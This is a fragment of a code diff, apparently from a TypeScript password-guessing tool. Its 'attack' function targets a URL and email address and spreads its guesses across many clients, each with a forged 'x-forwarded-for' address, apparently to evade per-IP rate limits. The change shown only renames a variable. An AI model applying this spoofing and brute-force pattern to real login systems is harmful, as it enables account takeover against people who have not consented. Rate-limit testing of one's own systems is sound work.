@@ -23,7 +23,7 @@ async function attack({ url, email, tries, addresses, atOnce }: Orders): Promise
   const became: Record<string, number> = {};
   const browsers = Array.from(
     { length: addresses },
-    (_, place) => new BrowserLike(url, { 'x-forwarded-for': `${20 + (place >> 8)}.${place & 255}.9.9` }),
+    (_, index) => new BrowserLike(url, { 'x-forwarded-for': `${20 + (index >> 8)}.${index & 255}.9.9` }),
   );
   let next = 0;
   const guesser = async () => {
